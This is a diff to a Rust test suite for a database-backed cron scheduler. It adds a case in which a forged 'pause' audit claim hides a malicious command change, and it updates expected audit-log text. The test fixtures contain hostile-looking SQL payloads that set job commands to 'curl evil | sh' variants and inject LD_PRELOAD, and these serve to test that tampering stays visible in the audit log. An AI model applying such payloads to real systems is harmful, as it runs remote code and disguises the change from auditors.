@@ -70,7 +70,8 @@ fn forged_claim_write(dialect: Dialect) -> Vec<&'static str> {
 }
 
 /// A claim whose words only *contain* the changed columns' names ("commander", "environment",
-/// "run_user_policy"), and a claimed insert called a pause.
+/// "run_user_policy"), a claimed insert called a pause, and a claim that holds the database's
+/// own words inside a longer text (before migrations PG 0030 / MySQL 0027 it was taken as is).
 fn sly_claim_writes(dialect: Dialect) -> Vec<&'static str> {
     match dialect {
         Dialect::Postgres => vec![
@@ -78,12 +79,16 @@ fn sly_claim_writes(dialect: Dialect) -> Vec<&'static str> {
                UPDATE cron_table SET command = 'curl evil2 | sh', env = '{"LD_PRELOAD":"/tmp/y.so"}', run_user = 'nobody', changed_by = 's1' WHERE name = 'a'; END $$"#,
             r#"DO $$ BEGIN PERFORM set_config('sqlcron.claim', '{"marker":"s2","action":"pause","who":"alice","detail":"paused"}', true);
                INSERT INTO cron_table (name, schedule, command, changed_by) VALUES ('evil', '@daily', 'curl evil | sh', 's2'); END $$"#,
+            r#"DO $$ BEGIN PERFORM set_config('sqlcron.claim', '{"marker":"s3","action":"pause","who":"alice","detail":"reason: nothing; changed command was a typo"}', true);
+               UPDATE cron_table SET command = 'curl evil3 | sh', changed_by = 's3' WHERE name = 'a'; END $$"#,
         ],
         Dialect::Mysql => vec![
             r#"SET @sqlcron_claim = '{"marker":"s1","action":"pause","who":"alice","detail":"paused at the request of the commander (environment freeze, wiki/run_user-policy)"}'"#,
             r#"UPDATE cron_table SET command = 'curl evil2 | sh', env = '{"LD_PRELOAD":"/tmp/y.so"}', run_user = 'nobody', changed_by = 's1' WHERE name = 'a'"#,
             r#"SET @sqlcron_claim = '{"marker":"s2","action":"pause","who":"alice","detail":"paused"}'"#,
             "INSERT INTO cron_table (name, schedule, command, changed_by) VALUES ('evil', '@daily', 'curl evil | sh', 's2')",
+            r#"SET @sqlcron_claim = '{"marker":"s3","action":"pause","who":"alice","detail":"reason: nothing; changed command was a typo"}'"#,
+            "UPDATE cron_table SET command = 'curl evil3 | sh', changed_by = 's3' WHERE name = 'a'",
         ],
         Dialect::Sqlite => vec![],
     }
@@ -261,6 +266,14 @@ async fn a_session_setting_skips_no_audit_row(dialect: Dialect) {
                 "evil",
                 Some("paused (the database saw: an insert)")
             ),
+            (
+                "pause",
+                "a",
+                Some(
+                    "reason: nothing; changed command was a typo \
+                     (the database saw: changed command)"
+                )
+            ),
         ],
         "{sly:?}"
     );
@@ -289,9 +302,7 @@ async fn a_session_setting_skips_no_audit_row(dialect: Dialect) {
             (
                 "apply_restore",
                 "alice",
-                Some(
-                    "restored command,env,run_user to the TOML definition (changed outside the file)"
-                )
+                Some("changed command,env,run_user")
             ),
         ],
         "{own:?}"
